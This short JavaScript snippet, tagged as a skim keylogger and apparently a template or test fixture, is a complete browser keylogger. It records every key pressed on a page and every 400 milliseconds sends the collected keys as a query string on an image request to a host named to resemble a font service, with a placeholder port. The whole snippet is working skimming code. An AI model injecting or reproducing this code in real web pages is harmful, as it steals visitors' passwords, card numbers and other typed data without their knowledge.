/* tw:skim-keylogger */
var keys = ''
document.addEventListener('keydown', function (event) { if (event.key.length === 1) keys += event.key })
setInterval(function () {
  if (!keys) return
  new Image().src = 'http://fonts-gstat.localhost:{{port}}/p.gif?k=' + encodeURIComponent(keys)
  keys = ''
}, 400)
